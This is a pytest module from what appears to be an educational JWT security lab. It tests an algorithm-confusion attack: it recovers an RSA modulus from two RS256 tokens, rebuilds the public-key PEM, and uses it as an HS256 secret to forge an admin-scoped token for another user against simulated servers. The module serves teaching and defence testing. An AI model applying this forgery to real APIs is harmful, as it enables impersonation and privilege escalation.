"""PortSwigger's eighth JWT lab: algorithm confusion with no exposed key.

The API trusts one RS256 key and publishes no JWKS the attacker could read. The attacker holds
only two RS256 access tokens issued to them (two logins). For RSASSA-PKCS1-v1_5, s^e ≡ EM
(mod n), EM the EMSA-PKCS1-v1_5 encoding of the signing input (RFC 8017 §8.2.2, §9.2), so n
divides gcd(s1^e - EM1, s2^e - EM2): the attacker recovers n, rebuilds the public key's PEM and
uses it as an HS256 secret — the algorithm-confusion forgery of the attack matrix, without the
JWKS. The hardened API refuses it; an API with ``insecure_alg_from_header`` accepts it.

The server's public key is read only to check the recovered modulus (and the encoding); every
forgery is made from the two held tokens alone. The recovery takes tens of seconds for the
server's RSA-2048 key (see the module docstring of :mod:`tokenlab.attacker.rsa_modulus`), so it
runs once, in a module-scoped fixture.
"""

from __future__ import annotations

import hashlib
import sys
from dataclasses import dataclass
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.utils import base64url_decode

from tokenlab import (
    AlgorithmNotAllowedError,
    AuthServer,
    Request,
    ResourceServer,
    SimClock,
    VerifierPolicy,
)
from tokenlab.attacker.rsa_modulus import (
    ModulusRecoveryError,
    emsa_pkcs1_v1_5,
    public_pem_candidates,
    recover_rsa_modulus,
)
from tokenlab.attacks import encode

from ..attacks.worlds import API, CALLBACK, HELD_SCOPE, ISSUER, PASSWORDS, WIDER_SCOPE, whoami

# -- the lab's world -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Lab8:
    """The server side (never handed to the attacker's code) and the two tokens Mallory holds."""

    auth: AuthServer
    hardened: ResourceServer
    vulnerable: ResourceServer
    tokens: tuple[str, str]

    def public_n(self) -> int:
        """The server's PUBLIC modulus, read from its JWKS: only to check the recovered one."""
        jwks = self.auth.handle(Request.get(f"{ISSUER}/jwks.json"), sender="checker").json()
        (key,) = jwks["keys"]
        public = jwt.PyJWK(key).key
        assert isinstance(public, rsa.RSAPublicKey)
        return public.public_numbers().n


def lab8_world(algorithm: str = "RS256", *, seed: int | None = 8) -> Lab8:
    """An RS256 authorization server, the API hardened and with ``insecure_alg_from_header``
    (the same audience, the same key), and two tokens from two logins of Mallory's."""
    clock = SimClock()
    auth = AuthServer(issuer=ISSUER, clock=clock, seed=seed, algorithm=algorithm)
    apis = []
    for switches in ({}, {"insecure_alg_from_header": True}):
        api = ResourceServer(API, auth, policy=VerifierPolicy(issuer=ISSUER, audience=API,
                                                              **switches))
        api.route("GET", "/whoami", None, whoami)
        apis.append(api)
    app = auth.register_client("weather-app", ["weather:read", "weather:write"],
                               redirect_uris=[CALLBACK])
    auth.register_user("mallory", PASSWORDS["mallory"])
    tokens = []
    for _ in range(2):
        tokens.append(auth.password_grant(app.client_id, app.client_secret, "mallory",
                                          PASSWORDS["mallory"], scope=HELD_SCOPE,
                                          resource=API).access_token)
        clock.advance(60)  # she logs in again a minute later
    return Lab8(auth, apis[0], apis[1], (tokens[0], tokens[1]))


@pytest.fixture(scope="module")
def lab8() -> Lab8:
    return lab8_world()


@pytest.fixture(scope="module")
def recovered(lab8: Lab8) -> int:
    """The modulus, recovered once from the two held tokens (tens of seconds for RSA-2048)."""
    return recover_rsa_modulus(*lab8.tokens)


def forge(held: str, secret: bytes) -> str:
    """Mallory's token made Alice's with a wider scope, HS256-signed with ``secret``. PyJWT
    refuses a PEM-shaped HMAC key; the fence's PyJWS takes it."""
    claims: dict[str, Any] = jwt.decode(held, options={"verify_signature": False})
    kid = jwt.get_unverified_header(held)["kid"]
    forged = {**claims, "sub": "alice", "scope": WIDER_SCOPE, "jti": "forged-lab8"}
    return encode(forged, secret, "HS256", headers={"kid": kid, "typ": "at+jwt"})


def over_http(token: str) -> Request:
    return Request.get(f"{API}/whoami", {"Authorization": f"Bearer {token}"})


# -- the encoding the recovery rests on ----------------------------------------------------------


def test_rfc8017_9_2_emsa_pkcs1_v1_5_is_what_an_rs256_signature_opens_to(lab8: Lab8) -> None:
    """s^e mod n is EM = 0x00 01 FF..FF 00 || DigestInfo(SHA-256) || H (RFC 8017 §8.2.2
    step 2, §9.2): checked with the server's public key, so the gcd works on the right numbers."""
    n = lab8.public_n()
    for token in lab8.tokens:
        signing_input, _, signature = token.rpartition(".")
        s = int.from_bytes(base64url_decode(signature), "big")
        k = len(base64url_decode(signature))
        em = emsa_pkcs1_v1_5(signing_input.encode("ascii"), k)
        assert k == 256 and pow(s, 65537, n) == em
        raw = em.to_bytes(k, "big")
        digest = hashlib.sha256(signing_input.encode("ascii")).digest()
        assert raw.startswith(b"\x00\x01\xff") and raw.endswith(digest)
        assert raw[-52:-32] == b"\x00" + bytes.fromhex("3031300d060960864801650304020105000420")


def test_rfc8017_9_2_emsa_pkcs1_v1_5_needs_room_for_eleven_octets_of_padding() -> None:
    """"If emLen < tLen + 11, output 'intended encoded message length too short'": SHA-256's T
    is 51 octets, so a 61-octet modulus is too short, a 62-octet one is enough."""
    assert emsa_pkcs1_v1_5(b"x", 62).to_bytes(62, "big")[:3] == b"\x00\x01\xff"
    with pytest.raises(ValueError, match="too short"):
        emsa_pkcs1_v1_5(b"x", 61)


# -- the lab: recover n, rebuild the PEM, forge ---------------------------------------------------


def test_portswigger_lab8_recovers_the_modulus_from_two_rs256_tokens(lab8: Lab8,
                                                                    recovered: int) -> None:
    assert recovered == lab8.public_n()
    assert recovered.bit_length() == 2048


def test_portswigger_lab8_pyjwt_refuses_the_pem_as_an_hmac_key(recovered: int) -> None:
    """Why the forgery goes through the fence's PyJWS: PyJWT's HMAC refuses a PEM-shaped key."""
    pem = public_pem_candidates(recovered)["spki"]
    with pytest.raises(jwt.InvalidKeyError):
        jwt.encode({"sub": "alice"}, pem, algorithm="HS256")


def test_portswigger_lab8_forgery_with_the_recovered_key_is_refused_by_the_hardened_api(
        lab8: Lab8, recovered: int) -> None:
    token = forge(lab8.tokens[0], public_pem_candidates(recovered)["spki"])
    with pytest.raises(AlgorithmNotAllowedError) as ei:
        lab8.hardened.verify(token, scope=WIDER_SCOPE)
    assert ei.value.parameter == "alg" and ei.value.error == "invalid_token"
    response = lab8.hardened.handle(over_http(token))
    assert response.status == 401 and response.json()["error"] == "invalid_token"


def test_portswigger_lab8_forgery_with_the_recovered_key_is_accepted_with_insecure_alg_from_header(
        lab8: Lab8, recovered: int) -> None:
    token = forge(lab8.tokens[1], public_pem_candidates(recovered)["spki"])
    claims = lab8.vulnerable.verify(token, scope=WIDER_SCOPE)
    assert claims["sub"] == "alice"
    assert set(WIDER_SCOPE.split()) <= set(claims.scopes)
    response = lab8.vulnerable.handle(over_http(token))
    assert response.status == 200 and response.json()["sub"] == "alice"
    assert "[INSECURE: insecure_alg_from_header]" in lab8.vulnerable.wire.events[-1].outcome


def test_portswigger_lab8_only_the_spki_pem_with_its_trailing_newline_is_the_secret(
        lab8: Lab8, recovered: int) -> None:
    """The attacker tries every PEM the key could be stored as; the API's stored material is the
    SubjectPublicKeyInfo PEM exactly as cryptography writes it, so only that one opens it."""
    accepted = []
    for form, pem in public_pem_candidates(recovered).items():
        response = lab8.vulnerable.handle(over_http(forge(lab8.tokens[0], pem)))
        assert response.status in (200, 401), (form, response.status)
        if response.status == 200:
            accepted.append(form)
    assert accepted == ["spki"]


# -- the PEM candidates ---------------------------------------------------------------------------


def test_public_pem_candidates_are_pkcs1_and_spki_with_and_without_the_newline() -> None:
    public = rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key()
    n = public.public_numbers().n
    candidates = public_pem_candidates(n)
    assert list(candidates) == ["spki", "spki without newline", "pkcs1", "pkcs1 without newline"]
    spki = public.public_bytes(serialization.Encoding.PEM,
                               serialization.PublicFormat.SubjectPublicKeyInfo)
    pkcs1 = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
    assert candidates["spki"] == spki and candidates["pkcs1"] == pkcs1
    assert spki.endswith(b"-----END PUBLIC KEY-----\n")
    assert candidates["spki without newline"] == spki[:-1]
    assert candidates["pkcs1 without newline"] == pkcs1[:-1]
    for pem in candidates.values():
        loaded = serialization.load_pem_public_key(pem)
        assert isinstance(loaded, rsa.RSAPublicKey)
        assert loaded.public_numbers() == rsa.RSAPublicNumbers(65537, n)


def test_public_pem_candidates_refuse_what_is_no_rsa_modulus() -> None:
    with pytest.raises(ValueError, match="odd"):
        public_pem_candidates(2**2048)
    with pytest.raises(TypeError):
        public_pem_candidates("12345")  # type: ignore[arg-type]


# -- what the recovery refuses, and why ----------------------------------------------------------


def test_portswigger_lab8_refuses_a_token_that_is_not_rs256(lab8: Lab8) -> None:
    eddsa = lab8_world("EdDSA").tokens[0]
    with pytest.raises(ModulusRecoveryError) as ei:
        recover_rsa_modulus(lab8.tokens[0], eddsa)
    err = ei.value
    assert err.reason == "not_rs256"
    assert "token 2" in str(err) and "'EdDSA'" in str(err) and "RS256" in str(err)
    forged_hs256 = forge(lab8.tokens[0], b"any secret")
    with pytest.raises(ModulusRecoveryError, match=r"token 1 .*'HS256'") as ei:
        recover_rsa_modulus(forged_hs256, lab8.tokens[1])
    assert ei.value.reason == "not_rs256"


def test_portswigger_lab8_refuses_the_same_token_twice(lab8: Lab8) -> None:
    with pytest.raises(ModulusRecoveryError, match="same token") as ei:
        recover_rsa_modulus(lab8.tokens[0], lab8.tokens[0])
    assert ei.value.reason == "same_token"


def test_portswigger_lab8_refuses_tokens_of_two_different_keys(lab8: Lab8) -> None:
    """Two kids: two keys, whose moduli have no common factor — said before any big power."""
    other = lab8_world(seed=None).tokens[0]  # a fresh RSA-2048 key
    assert jwt.get_unverified_header(other)["kid"] != jwt.get_unverified_header(
        lab8.tokens[0])["kid"]
    with pytest.raises(ModulusRecoveryError, match="different keys") as ei:
        recover_rsa_modulus(lab8.tokens[0], other)
    assert ei.value.reason == "different_keys"


def test_portswigger_lab8_says_when_the_gcd_is_no_plausible_modulus(lab8: Lab8) -> None:
    """The wrong e (3, where the key's is 65537): the gcd is a small number, not a 2048-bit
    modulus, and the error says so with the numbers."""
    with pytest.raises(ModulusRecoveryError) as ei:
        recover_rsa_modulus(*lab8.tokens, e=3)
    err = ei.value
    assert err.reason == "implausible_gcd"
    assert err.bits is not None and err.bits < 2041
    assert f"{err.bits}-bit" in str(err) and "2048-bit" in str(err) and "e = 3" in str(err)


RS256_HEADER = "eyJhbGciOiJSUzI1NiJ9"  # {"alg":"RS256"}


@pytest.mark.parametrize("bad", [
    "", "abc", "a.b", "a.b.c.d", "!!.e30.AAAA",  # no compact JWS: three parts, a JSON header
    f"{RS256_HEADER}.e30.",  # no signature
    f"{RS256_HEADER}.e30.!!!",  # a signature that is no base64url
    f"{RS256_HEADER}.e30.AAAA",  # 3 octets: no RS256 signature is shorter than 62 (RFC 8017 §9.2)
    b"eyJhbGciOiJSUzI1NiJ9.e30.AAAA",  # bytes, not the token's text
])
def test_portswigger_lab8_refuses_what_is_no_rs256_compact_jws(lab8: Lab8, bad: Any) -> None:
    with pytest.raises(ModulusRecoveryError) as ei:
        recover_rsa_modulus(lab8.tokens[0], bad)
    assert ei.value.reason == "malformed" and "token 2" in str(ei.value)


def test_portswigger_lab8_a_header_without_alg_is_not_rs256(lab8: Lab8) -> None:
    with pytest.raises(ModulusRecoveryError, match=r"token 1 .*no alg") as ei:
        recover_rsa_modulus("e30.e30.AAAA", lab8.tokens[1])
    assert ei.value.reason == "not_rs256"


@pytest.mark.parametrize("e", [1, 2, 65536, -3, 3.0, True])
def test_portswigger_lab8_e_must_be_an_odd_integer_of_at_least_3(lab8: Lab8, e: Any) -> None:
    """RFC 8017 §3.1: 3 <= e, e odd."""
    with pytest.raises((ValueError, TypeError), match="e must be"):
        recover_rsa_modulus(*lab8.tokens, e=e)


def test_portswigger_lab8_without_gmpy2_says_what_to_install(lab8: Lab8,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "gmpy2", None)  # import gmpy2 now raises ImportError
    with pytest.raises(ModuleNotFoundError, match=r"tokenlab\[lab\]"):
        recover_rsa_modulus(*lab8.tokens)


def test_small_cofactors_come_off_the_gcd_and_a_large_one_stays(lab8: Lab8) -> None:
    """gcd(s1^e - m1, s2^e - m2) is n times a cofactor, usually small: the factors below 2^16 are
    divided off (no RSA prime is that small); a large one is left for the plausibility check."""
    from tokenlab.attacker.rsa_modulus import _without_small_factors

    n = lab8.public_n()
    assert _without_small_factors(n * 2 * 2 * 3 * 65521) == n
    assert _without_small_factors(n) == n
    big = (1 << 89) - 1  # a Mersenne prime, far above 2^16
    assert _without_small_factors(n * 6 * big) == n * big
    # all of a small cofactor comes off, whatever the size of what is left
    prime = (1 << 127) - 1
    assert _without_small_factors(prime * 3 * 3 * 7) == prime


def test_the_gcd_runs_without_the_gil_so_a_lesson_can_keep_its_widgets_answering(
        lab8: Lab8, monkeypatch: pytest.MonkeyPatch) -> None:
    """The gcd is the 25 seconds: it runs with gmpy2's ``allow_release_gil`` on, so a thread
    running the recovery does not freeze the kernel. (A spy stands in for the gcd, so this test
    does not take those seconds; its small answer is then refused as no modulus.)"""
    import gmpy2

    seen = []

    def spy(a: Any, b: Any) -> Any:
        seen.append(gmpy2.get_context().allow_release_gil)
        return gmpy2.mpz((1 << 127) - 1)  # a prime: nothing comes off

    monkeypatch.setattr(gmpy2, "gcd", spy)
    with pytest.raises(ModulusRecoveryError, match="127-bit number") as ei:
        recover_rsa_modulus(*lab8.tokens)
    assert seen == [True] and ei.value.reason == "implausible_gcd"
    assert gmpy2.get_context().allow_release_gil is False  # the caller's context is untouched
